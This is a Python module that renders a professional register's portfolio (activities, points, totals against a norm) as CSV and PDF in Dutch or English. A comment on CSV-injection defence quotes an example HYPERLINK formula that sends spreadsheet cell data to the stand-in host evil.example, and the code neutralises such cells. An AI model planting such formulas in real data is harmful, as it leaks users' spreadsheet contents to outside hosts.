"""Exports of a portfolio view: CSV for spreadsheets and a PDF overview to hand to an employer.

Both render the same `Portfolio` reply the page shows, so an export never disagrees with the screen. Each lists
every activity of the cycle (counting or not, with the reason) and the totals against the norm.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping, Sequence
from datetime import date, datetime
from decimal import Decimal

from fpdf.table import Row

from lklr_shared.contracts.portfolio import Portfolio, PortfolioActivity
from portfolio.adapters.pdf_layout import RegisterDocument, fitted_widths, pdf_text
from portfolio.adapters.svg import format_points

__all__ = ["csv_filename", "pdf_filename", "render_csv", "render_pdf"]

_TEXT: dict[str, dict[str, str]] = {
    "nl": {
        "title": "Portfolio-overzicht",
        "register": "Landelijk Kwaliteitsregister Leerplicht & RMC",
        "number": "Registratienummer",
        "name": "Naam",
        "cycle": "Registratieperiode",
        "scheme": "Reglement",
        "generated": "Gemaakt op",
        "date": "Datum afgerond",
        "activity": "Activiteit",
        "category": "Categorie",
        "type": "Soort",
        "source": "Bron",
        "provider": "Aanbieder",
        "state": "Status",
        "points": "Punten",
        "accredited": "Geaccrediteerd",
        "counts": "Telt mee",
        "why_not": "Reden niet meetellen",
        "totals": "Totalen",
        "constraint": "Onderdeel",
        "earned": "Behaald",
        "minimum": "Minimum",
        "missing": "Nog nodig",
        "met": "Voldaan",
        "norm_met": "Norm gehaald",
        "days_left": "Dagen resterend",
        "yes": "ja",
        "no": "nee",
        "no_cycle": "Er is nog geen registratieperiode geopend.",
        "footer": "Pagina",
        "of": "van",
        "period": "{start} tot en met {end}",
        "activities": "Activiteiten",
        "counting_total": "Totaal meetellende punten in deze periode",
    },
    "en": {
        "title": "Portfolio overview",
        "register": "National Quality Register Leerplicht & RMC",
        "number": "Registration number",
        "name": "Name",
        "cycle": "Registration cycle",
        "scheme": "Scheme",
        "generated": "Generated on",
        "date": "Completed on",
        "activity": "Activity",
        "category": "Category",
        "type": "Type",
        "source": "Source",
        "provider": "Provider",
        "state": "State",
        "points": "Points",
        "accredited": "Accredited",
        "counts": "Counts",
        "why_not": "Why it does not count",
        "totals": "Totals",
        "constraint": "Constraint",
        "earned": "Earned",
        "minimum": "Minimum",
        "missing": "Missing",
        "met": "Met",
        "norm_met": "Norm met",
        "days_left": "Days left",
        "yes": "yes",
        "no": "no",
        "no_cycle": "No registration cycle has been opened yet.",
        "footer": "Page",
        "of": "of",
        "period": "{start} to {end} inclusive",
        "activities": "Activities",
        "counting_total": "Total points counting in this cycle",
    },
}

_SOURCES = {
    "nl": {"self_entered": "zelf ingevoerd", "provider_placed": "aanbieder", "teaching": "training gegeven"},
    "en": {"self_entered": "self-entered", "provider_placed": "provider", "teaching": "teaching"},
}
_STATES = {
    "nl": {
        "placed": "geplaatst",
        "confirmed": "bevestigd",
        "disputed": "betwist",
        "voided": "ingetrokken",
        "to_be_checked": "te controleren",
        "approved": "goedgekeurd",
        "rejected": "afgekeurd",
    },
    "en": {
        "placed": "placed",
        "confirmed": "confirmed",
        "disputed": "disputed",
        "voided": "voided",
        "to_be_checked": "to be checked",
        "approved": "approved",
        "rejected": "rejected",
    },
}

_EXCLUSIONS = {
    "nl": {
        "before_registration": "voor de registratie",
        "before_cycle": "voor deze periode",
        "after_cycle": "na deze periode",
        "type_not_in_scheme": "soort niet in reglement",
        "voided": "ingetrokken",
        "rejected": "afgekeurd",
        "disputed": "betwist",
        "no_cycle": "geen periode",
    },
    "en": {
        "before_registration": "before registration",
        "before_cycle": "before this cycle",
        "after_cycle": "after this cycle",
        "type_not_in_scheme": "type not in scheme",
        "voided": "voided",
        "rejected": "rejected",
        "disputed": "disputed",
        "no_cycle": "no cycle",
    },
}


_COLUMNS = (
    "date",
    "activity",
    "category",
    "type",
    "source",
    "provider",
    "state",
    "points",
    "accredited",
    "counts",
    "why_not",
)
"""The columns of both exports, in order (keys of the language's texts)."""


def _headings(text: Mapping[str, str]) -> list[str]:
    return [text[column] for column in _COLUMNS]


def _date(day: date | datetime, language: str) -> str:
    """The register's date format: d-m-jjjj in Dutch (7-3-2025, as on the pages and in the mails), ISO in English."""
    return f"{day.day}-{day.month}-{day.year}" if language == "nl" else day.strftime("%Y-%m-%d")


class _Number(str):
    """A cell this module formatted from a number: written as it is, so a spreadsheet reads it as a number."""


# A spreadsheet treats a cell that starts with one of these as a formula (CSV injection): an activity titled
# `=HYPERLINK("https://evil.example?"&A1,"Klik")` would run in the office's Excel. OWASP's advice: start such a
# cell with a single quote, which spreadsheets show as text. Cells made from numbers (`_Number`: points, days
# left) are exempt: a negative number legitimately starts with "-", and it is ours, not typed by a person.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _neutral(cell: str) -> str:
    if isinstance(cell, _Number) or not cell.startswith(_FORMULA_STARTS):
        return cell
    return "'" + cell


class _SafeWriter:
    """csv.writer whose every text cell is neutralised, so a new column is safe without anyone remembering."""

    def __init__(self, buffer: io.StringIO, delimiter: str) -> None:
        self._writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")

    def writerow(self, cells: list[str]) -> None:
        self._writer.writerow([_neutral(cell) for cell in cells])


def _points(points: Decimal, language: str) -> _Number:
    return _Number(format_points(points, decimal_comma=language == "nl"))


def _file_stem(portfolio: Portfolio) -> str:
    cycle = f"-{portfolio.cycle.starts_on.year}-{portfolio.cycle.ends_on.year}" if portfolio.cycle else ""
    return f"portfolio-{portfolio.registration_number}{cycle}"


def csv_filename(portfolio: Portfolio) -> str:
    return f"{_file_stem(portfolio)}.csv"


def pdf_filename(portfolio: Portfolio) -> str:
    return f"{_file_stem(portfolio)}.pdf"


def _activity_cells(activity: PortfolioActivity, language: str, type_labels: Mapping[str, str]) -> list[str]:
    text = _TEXT[language]
    exclusion = activity.exclusion or ""
    return [
        _date(activity.completion_date, language),
        activity.title,
        activity.category,
        type_labels.get(activity.activity_type, activity.activity_type),
        _SOURCES[language][activity.source],
        activity.provider_name or "",
        _STATES[language][activity.state],
        _points(activity.points, language),
        text["yes"] if activity.accredited else text["no"],
        text["yes"] if activity.counts else text["no"],
        _EXCLUSIONS[language].get(exclusion, exclusion),
    ]


def render_csv(portfolio: Portfolio, language: str, type_labels: Mapping[str, str]) -> bytes:
    """Every activity, a blank line, then the totals against each minimum. ``type_labels`` names activity types.

    Dutch: `;` separated with decimal commas (what a Dutch spreadsheet expects); English: `,` and decimal points.
    Text cells that a spreadsheet would take for a formula start with `'` (see `_neutral`).
    UTF-8 with a byte-order mark, so spreadsheets pick the right encoding for names such as "Hoogeveen-Ëlsen".
    """
    text = _TEXT[language]
    buffer = io.StringIO()
    writer = _SafeWriter(buffer, delimiter=";" if language == "nl" else ",")
    writer.writerow(_headings(text))
    for activity in portfolio.activities:
        writer.writerow(_activity_cells(activity, language, type_labels))
    writer.writerow([])
    writer.writerow([text["totals"], text["earned"], text["minimum"], text["missing"], text["met"]])
    if portfolio.progress is not None:
        for constraint in portfolio.progress.constraints:
            writer.writerow(
                [
                    constraint.label,
                    _points(constraint.earned, language),
                    _points(constraint.minimum, language),
                    _points(constraint.missing, language),
                    text["yes"] if constraint.met else text["no"],
                ]
            )
        writer.writerow([text["norm_met"], text["yes"] if portfolio.progress.met else text["no"]])
        writer.writerow([text["days_left"], _Number(portfolio.progress.days_left)])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def render_pdf(portfolio: Portfolio, language: str, type_labels: Mapping[str, str]) -> bytes:
    """A landscape A4 document to hand to an employer: the register's letterhead and "page n of N" on every page;
    who, the registration period, the totals against the norm with the total of the counting points; then every
    activity, its headings repeated on each page and never broken in the middle of a word."""
    text = _TEXT[language]
    pdf = RegisterDocument(
        register_name=text["register"],
        document_title=f"{text['title']} {portfolio.registration_number}",
        page_word=text["footer"],
        of_word=text["of"],
        footer_note=f"{text['generated']} {_date(portfolio.generated_at, language)}",
        orientation="landscape",
    )
    pdf.add_page()
    width = pdf.epw

    pdf.set_font("Helvetica", style="B", size=16)
    pdf.cell(0, 9, pdf_text(text["title"]), new_x="LMARGIN", new_y="NEXT")
    pdf.ln(1)
    facts = [
        (text["name"], portfolio.name),
        (text["number"], portfolio.registration_number),
    ]
    if portfolio.cycle is not None:
        period = text["period"].format(
            start=_date(portfolio.cycle.starts_on, language), end=_date(portfolio.cycle.ends_on, language)
        )
        facts.append((text["cycle"], period))
        facts.append((text["scheme"], portfolio.cycle.scheme_version))
    facts.append((text["generated"], _date(portfolio.generated_at, language)))
    for label, value in facts:
        pdf.set_font("Helvetica", style="B", size=10)
        pdf.cell(50, 6, pdf_text(label))
        pdf.set_font("Helvetica", size=10)
        pdf.cell(0, 6, pdf_text(value), new_x="LMARGIN", new_y="NEXT")
    pdf.ln(3)

    pdf.set_font("Helvetica", style="B", size=12)
    pdf.cell(0, 8, pdf_text(text["totals"]), new_x="LMARGIN", new_y="NEXT")
    pdf.set_font("Helvetica", size=10)
    if portfolio.progress is None:
        pdf.cell(0, 6, pdf_text(text["no_cycle"]), new_x="LMARGIN", new_y="NEXT")
    else:
        total_headings = (text["constraint"], text["earned"], text["minimum"], text["missing"], text["met"])
        total_rows: list[Sequence[str]] = [
            (
                constraint.label,
                _points(constraint.earned, language),
                _points(constraint.minimum, language),
                _points(constraint.missing, language),
                text["yes"] if constraint.met else text["no"],
            )
            for constraint in portfolio.progress.constraints
        ]
        widths = fitted_widths(pdf, total_headings, total=175, stretch=0, font_size=10, values=total_rows)
        with pdf.table(col_widths=widths, width=175, align="LEFT", line_height=6, text_align="LEFT") as table:
            _row(table.row(), total_headings)
            for cells in total_rows:
                _row(table.row(), cells)
        pdf.ln(2)
        met = text["yes"] if portfolio.progress.met else text["no"]
        pdf.cell(
            0,
            6,
            pdf_text(f"{text['norm_met']}: {met}    {text['days_left']}: {portfolio.progress.days_left}"),
            new_x="LMARGIN",
            new_y="NEXT",
        )
    pdf.ln(4)

    pdf.set_font("Helvetica", style="B", size=12)
    pdf.cell(0, 8, pdf_text(f"{text['activities']} ({len(portfolio.activities)})"), new_x="LMARGIN", new_y="NEXT")
    headings = _headings(text)
    rows = [_activity_cells(activity, language, type_labels) for activity in portfolio.activities]
    widths = fitted_widths(pdf, headings, total=width, stretch=1, font_size=8, values=rows)
    pdf.set_font("Helvetica", size=8)
    with pdf.table(col_widths=widths, width=width, line_height=4.5, first_row_as_headings=True) as table:
        _row(table.row(), headings)
        for cells in rows:
            _row(table.row(), cells)
    counting = sum((activity.points for activity in portfolio.activities if activity.counts), Decimal(0))
    pdf.ln(2)
    pdf.set_font("Helvetica", style="B", size=10)
    pdf.cell(0, 6, pdf_text(f"{text['counting_total']}: {_points(counting, language)}"), new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def _row(row: Row, cells: Sequence[str]) -> None:
    for cell in cells:
        row.cell(pdf_text(cell))
